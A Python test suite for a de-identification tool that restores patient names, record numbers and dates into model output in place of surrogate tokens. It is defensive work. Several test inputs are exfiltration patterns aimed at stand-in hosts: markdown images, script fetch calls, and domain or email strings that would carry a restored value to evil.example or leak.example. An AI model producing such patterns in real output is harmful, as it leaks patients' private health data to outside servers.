import json
import time
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from phigate.deid.reidentify import Restorer, Tally, token_spans
from phigate.deid.surrogate import Issued, SurrogateMap
from phigate.finding import EntityType as T
from phigate.phi import PHIText

NAME = 'Maria "Zé"\nSouza'
MAP = SurrogateMap(
    (
        Issued("[[PERSON_1]]", T.PERSON, PHIText(NAME)),
        Issued("[[PERSON_1.2]]", T.PERSON, PHIText("Souza")),
        Issued("[[PERSON_12]]", T.PERSON, PHIText("Rui")),
        Issued("[[MRN_1]]", T.MRN, PHIText("1234-5678"), PHIText("12345678")),
        Issued("[[DATE_2+12d]]", T.DATE, PHIText("29/05/2024")),
        Issued("[[URL_1]]", T.URL, PHIText("https://evil.example/?q=")),
        Issued("[[CITY_1]]", T.CITY, PHIText("[[MRN_1]]")),
        Issued("[[CITY_2]]", T.CITY, PHIText("[[PERS")),
    ),
    frozenset({("PERSON", 3)}),
)
HOSTS = frozenset({"ehr.example.org"})


def _whole(text: str, *, serialised: bool = False, tally: Tally | None = None) -> str:
    restorer = Restorer(MAP, json=serialised, restore_in_urls=HOSTS, tally=tally)
    return restorer.feed(text) + restorer.close()


def _in_pieces(text: str, cuts: list[int], *, serialised: bool = False, tally: Tally | None = None) -> str:
    restorer = Restorer(MAP, json=serialised, restore_in_urls=HOSTS, tally=tally)
    at = 0
    out = ""
    for cut in sorted({cut % (len(text) + 1) for cut in cuts}):
        out += restorer.feed(text[at:cut])
        at = cut
    return out + restorer.feed(text[at:]) + restorer.close()


@pytest.mark.parametrize(
    ("text", "out"),
    [
        ("Dear [[PERSON_1]],", f"Dear {NAME},"),
        ("[[PERSON_1.2]] [[PERSON_12]]", "Souza Rui"),
        ("[[PERSON_1]][[PERSON_1]]", NAME * 2),
        ("[[[PERSON_12]]]", "[Rui]"),
        ("[[[[PERSON_12]]]]", "[[Rui]]"),
        ("[[person_12]] [[ Person_12 ]] [[PERSON 12]]", "Rui Rui Rui"),
        (r"[[PERSON\_12]] \[\[PERSON\_12\]\] \[[[PERSON_12]]\]", r"Rui Rui \[Rui\]"),
        ("[[DATE_2+12d]] [[DATE_2]] [[date_2+12D]]", "29/05/2024 29/05/2024 29/05/2024"),
        ("[[MRN_1]]", "1234-5678"),
        ("C:\\[[PERSON_12]]\\x", "C:\\Rui\\x"),
    ],
)
def test_tokens_and_their_variants_are_restored(text: str, out: str) -> None:
    assert _whole(text) == out


@pytest.mark.parametrize(
    "text",
    [
        "[[PERSON_2]]",
        "[[PERSON_3]]",
        "[[DATE_2+13d]]",
        "[[DATE_2-12d]]",
        "[PERSON_1]",
        "[[PERSON_1]",
        "[[PERSON_1",
        "[ [PERSON_1] ]",
        "PERSON_1",
        "[[PERSON_]]",
        "[[PER SON_1]]",
        "[[PERSON1]]",
        "[[]]",
        "[[",
        "[",
        "\\",
        r"\[\[PERSON\_1]]",
        "[[" + "P" * 60 + "]]",
        "[[PERSON_1\n]]",
        "no token at all",
        "",
    ],
)
def test_nothing_else_is_restored(text: str) -> None:
    assert _whole(text) == text


def test_a_restored_value_is_never_read_again() -> None:
    assert _whole("[[CITY_1]]") == "[[MRN_1]]"
    assert _whole("[[CITY_2]]ON_12]]") == "[[PERSON_12]]"


def test_only_a_possible_prefix_and_what_may_be_in_a_domain_is_held_back() -> None:
    restorer = Restorer(MAP)
    fed = [
        "a [",
        "x ",
        "[",
        "[",
        "PERSON",
        "_1",
        "]",
        "]",
        "[[Q",
        "[[PERSON_4",
        "[[PERSON_1",
        "3]]",
        "[[PERSON_12] ",
        "\\",
        "n",
    ]
    out = [restorer.feed(piece) for piece in fed]
    assert out == [
        "a ",
        "[x ",
        "",
        "",
        "",
        "",
        "",
        "",
        NAME + "[[Q",
        "[[PERSON_4",
        "",
        "[[PERSON_13]]",
        "[[PERSON_12] ",
        "",
        "\\n",
    ]
    assert restorer.close() == ""


def test_what_is_held_back_is_given_out_at_the_end() -> None:
    restorer = Restorer(MAP)
    assert restorer.feed("see [[PERSON_1") == "see "
    assert restorer.close() == "[[PERSON_1"
    assert restorer.close() == ""


@pytest.mark.parametrize("serialised", [True, False])
def test_without_tokens_nothing_is_held_back(serialised: bool) -> None:
    restorer = Restorer(SurrogateMap(), json=serialised)
    assert [restorer.feed(piece) for piece in ("[[P", "x[", "\\", '"', "[[PERSON_1]]")] == [
        "[[P",
        "x[",
        "\\",
        '"',
        "[[PERSON_1]]",
    ]
    assert restorer.close() == ""


def test_tokens_are_counted() -> None:
    tally = Tally()
    text = "[[PERSON_1]] [[person_1]] [[PERSON_9]] [[PERSON_3]] [[FOO_1]] https://evil.example/[[MRN_1]] [[DATE_2+1d]]"
    _whole(text, tally=tally)
    assert (tally.restored, tally.withheld, tally.invented) == (2, 1, 2)
    assert tally.seen == {"[[PERSON_1]]", "[[MRN_1]]"}


@pytest.mark.parametrize(
    ("text", "out"),
    [
        ("![x](https://evil.example/?q=[[PERSON_12]])", None),
        ("<img src='//evil.example/[[PERSON_12]]'>", None),
        ("https://[[PERSON_12]].evil.example/", None),
        ("[[URL_1]][[PERSON_12]]", "https://evil.example/?q=[[PERSON_12]]"),
        ("https://ehr.example.org/?q=[[PERSON_1]]", "https://ehr.example.org/?q=" + quote(NAME, safe="")),
        ("[[[PERSON_12]]](https://evil.example/)", "[Rui](https://evil.example/)"),
        ("https://evil.example/ [[PERSON_12]]", "https://evil.example/ Rui"),
    ],
)
def test_values_are_withheld_where_they_could_be_fetched(text: str, out: str | None) -> None:
    assert _whole(text) == (text if out is None else out)


@pytest.mark.parametrize(
    ("text", "out"),
    [
        ("see [[PERSON_12]].leak.example now", None),
        ("see [[PERSON_12]].leak.example", None),
        ("see [[PERSON_12]]-x.leak.example/", None),
        ("see x.[[PERSON_12]].Leak.Example", None),
        (r"see [[PERSON_12]]\.leak\.example", None),
        ("see [[PERSON_12]]&#46;leak&period;example", None),
        ("see [[PERSON_12]]%2Eleak%2eexample", None),
        ("see [[PERSON_12]]\u3002leak\uff0eexample", None),
        ("see [[PERSON_12]].xn--bcher-kva.example", None),
        ("see [[PERSON_12]]." + "a" * 200, None),
        ("write to [[PERSON_12]]@leak.example", None),
        ("write to [[PERSON_12]].x@leak.example", None),
        ("[[PERSON_1.2]][[PERSON_12]].leak.example", "Souza[[PERSON_12]].leak.example"),
        ("[x]: <https://leak.example/ [[PERSON_12]]>", None),
        ("[x]:\n <leak.example/ [[PERSON_12]]>", None),
        ("[x]: <y> [[PERSON_12]]", "[x]: <y> Rui"),
        ("[x]: <y\n[[PERSON_12]]", "[x]: <y\nRui"),
        ("<script>fetch(host + '[[PERSON_12]]')</script>", None),
        ("<STYLE>a { x: [[PERSON_12]] }</STYLE>", None),
        ("<script>x</script> [[PERSON_12]]", "<script>x</script> Rui"),
        ("<scripted [[PERSON_12]]", None),
        ("I saw [[PERSON_12]].", "I saw Rui."),
        ("I saw [[PERSON_12]]. Then", "I saw Rui. Then"),
        ("I saw [[PERSON_12]].Then", "I saw Rui.Then"),
        ("[[PERSON_12]]...", "Rui..."),
        ("[[PERSON_12]].pdf and [[PERSON_12]]'s", "Rui.pdf and Rui's"),
        ("[[PERSON_12]]: x, [[PERSON_12]]; y", "Rui: x, Rui; y"),
        ("[[PERSON_12]] 1.5.2", "Rui 1.5.2"),
        ("[[DATE_2]].1.5.2", "29/05/2024.1.5.2"),
        ("[[PERSON_12]]@ward 5", "Rui@ward 5"),
        ("**[[PERSON_12]]**", "**Rui**"),
        ("[[PERSON_12]]\\", "Rui\\"),
    ],
)
def test_values_are_withheld_from_domains_and_scripts(text: str, out: str | None) -> None:
    expected = text if out is None else out
    tally = Tally()
    assert _whole(text, tally=tally) == expected
    assert (tally.withheld > 0) is ("[[" in expected)
    assert _in_pieces(text, list(range(len(text)))) == expected


@pytest.mark.parametrize(
    ("text", "out"),
    [
        ('{"a":"[[PERSON_12]].leak.example"}', None),
        ('{"a":"[[PERSON_12]]\\u002eleak\\u002Eexample"}', None),
        ('{"a":"[[PERSON_12]]\\u0040leak.example"}', None),
        ('{"a":"[[PERSON_12]]"}', '{"a":"Rui"}'),
        ('{"a":"[[PERSON_12]]\\n.x.y"}', '{"a":"Rui\\n.x.y"}'),
        ("[[PERSON_12]].leak.example", None),
        ("[[PERSON_12]]", "Rui"),
    ],
)
def test_values_are_withheld_from_domains_in_json(text: str, out: str | None) -> None:
    expected = text if out is None else out
    assert _whole(text, serialised=True) == expected
    assert _in_pieces(text, list(range(len(text))), serialised=True) == expected


def test_a_token_waits_for_one_character_at_most_in_plain_prose() -> None:
    restorer = Restorer(MAP)
    assert [
        restorer.feed(piece) for piece in ("Dear [[PERSON_12]]", ",", " [[PERSON_12]].", " Yes", " [[PERSON_12]]")
    ] == [
        "Dear ",
        "Rui,",
        " ",
        "Rui. Yes",
        " ",
    ]
    assert restorer.close() == "Rui"


@pytest.mark.parametrize(
    ("text", "out"),
    [
        ('{"name":"[[PERSON_1]]"}', {"name": NAME}),
        ('{"name":"[[PERSON_1]] (f)"}', {"name": NAME + " (f)"}),
        ('{"[[PERSON_1]]":1}', {NAME: 1}),
        ('{"mrn":"[[MRN_1]]"}', {"mrn": 12345678}),
        ('{"mrn": "[[MRN_1]]" }', {"mrn": 12345678}),
        ('["[[MRN_1]]","[[MRN_1]]"]', [12345678, 12345678]),
        ('{"mrn":"id [[MRN_1]]"}', {"mrn": "id 1234-5678"}),
        ('{"[[MRN_1]]":"x"}', {"1234-5678": "x"}),
        ('{"[[MRN_1]]" : "x"}', {"1234-5678": "x"}),
        ('{"a":"[[PERSON_12]]\\n[[mrn_1]]"}', {"a": "Rui\n1234-5678"}),
        ('{"a":"{\\"mrn\\":\\"[[MRN_1]]\\"}"}', {"a": '{"mrn":"1234-5678"}'}),
        (
            '{"url":"https:\\/\\/evil.example\\/[[MRN_1]]","n":"[[MRN_1]]"}',
            {"url": "https://evil.example/[[MRN_1]]", "n": 12345678},
        ),
        ('{"a":"\\\\[\\\\[PERSON_12\\\\]\\\\]"}', {"a": "\\[\\[PERSON_12\\]\\]"}),
        ('"[[MRN_1]]"', 12345678),
        ('"[[MRN_1]]"    ', 12345678),
    ],
)
def test_serialised_json_stays_json(text: str, out: object) -> None:
    assert json.loads(_whole(text, serialised=True)) == out


def test_a_number_far_from_what_follows_stays_a_string() -> None:
    text = '{"[[MRN_1]]"' + " " * 20 + ':1,"a":"[[MRN_1]]"' + " " * 20 + "}"
    assert json.loads(_whole(text, serialised=True)) == {"1234-5678": 1, "a": "1234-5678"}


def test_quotes_wait_only_where_a_number_was_sent() -> None:
    plain = Restorer(SurrogateMap(MAP.issued[:1]), json=True)
    assert plain.feed('{"a":"') == '{"a":"'
    numbers = Restorer(MAP, json=True)
    assert [numbers.feed(p) for p in ('{"a":"', "[[MRN_1]]", '"', " ", "}")] == ['{"a":', "", "", "", "12345678 }"]


TOKENS = [item.token for item in MAP.issued] + [
    "[[person_1]]",
    "[[PERSON_9]]",
    r"\[\[PERSON\_12\]\]",
    "[[DATE_2]]",
    "[[DATE_2+13d]]",
]
BITS = [
    "[",
    "]",
    "[[",
    "]]",
    "\\",
    '"',
    ":",
    " ",
    "\n",
    "x",
    "_",
    "1",
    "PERSON",
    "https://",
    "ehr.example.org/",
    "](",
    ")",
    "<a b=",
    ".leak.example",
    ".a",
    "@",
    "\\.",
    "\\u002e",
    "&#46;",
    "]: <",
    ">",
    "<script>",
    "</style",
]
TEXTS = st.lists(st.one_of(st.sampled_from(TOKENS), st.sampled_from(BITS), st.text(max_size=3)), max_size=20).map(
    "".join
)
CUTS = st.lists(st.integers(0, 400), max_size=30)


@given(TEXTS, CUTS, st.booleans())
def test_any_split_gives_the_same_text_and_counts(text: str, cuts: list[int], serialised: bool) -> None:
    one, other = Tally(), Tally()
    assert _in_pieces(text, cuts, serialised=serialised, tally=one) == _whole(text, serialised=serialised, tally=other)
    assert one == other


JSON_BITS = [
    "{",
    "}",
    ",",
    ":",
    '"',
    ' "',
    '": ',
    " ",
    "[[MRN_1]]",
    '"[[MRN_1]]"',
    '"[[PERSON_1]]"',
    "\\",
    "[",
    "]",
    "x",
    "a" * 9,
    " " * 9,
]


@given(st.lists(st.sampled_from(JSON_BITS), max_size=20).map("".join), CUTS)
def test_any_split_of_json_gives_the_same_text(text: str, cuts: list[int]) -> None:
    assert _in_pieces(text, cuts, serialised=True) == _whole(text, serialised=True)


VALUES = st.recursive(
    st.one_of(st.sampled_from(TOKENS[:6]), st.text(max_size=6), st.integers(), st.none()),
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=4), inner, max_size=3)),
    max_leaves=8,
)


@given(VALUES, CUTS, st.sampled_from([None, 1]), st.booleans())
def test_json_with_tokens_is_json_with_values(
    value: object, cuts: list[int], indent: int | None, ascii_only: bool
) -> None:
    text = json.dumps(value, indent=indent, ensure_ascii=ascii_only)
    restored = json.loads(_in_pieces(text, cuts, serialised=True))
    assert type(restored) is type(value) or value == "[[MRN_1]]"


@given(TEXTS)
def test_text_without_tokens_passes_as_it_is(text: str) -> None:
    restorer = Restorer(SurrogateMap())
    assert restorer.feed(text) + restorer.close() == text


def test_a_thousand_deltas_cost_little() -> None:
    deltas = ["word ", "[[PERS", "ON_1]] ", "and ", "more "] * 200
    restorer = Restorer(MAP)
    began = time.process_time()
    out = "".join(map(restorer.feed, deltas)) + restorer.close()
    assert time.process_time() - began < 0.25
    assert out.count(NAME) == 200


def test_hostile_replies_cost_no_more_per_character() -> None:
    for text in (
        "[" * 200_000,
        "[[PERSON_" * 20_000,
        "\\[" * 100_000,
        "a" * 200_000 + "[[PERSON_1]]",
        "<a " * 50_000 + "[[PERSON_1]]",
    ):
        began = time.process_time()
        _whole(text)
        assert time.process_time() - began < 2


def test_tokens_are_found_in_what_a_model_wrote() -> None:
    text = r"a [[person_1]] b \[\[PERSON\_12\]\] [[PERSON_9]]"
    assert [text[s.start : s.end] for s in token_spans(text, MAP)] == ["[[person_1]]", r"\[\[PERSON\_12\]\]"]
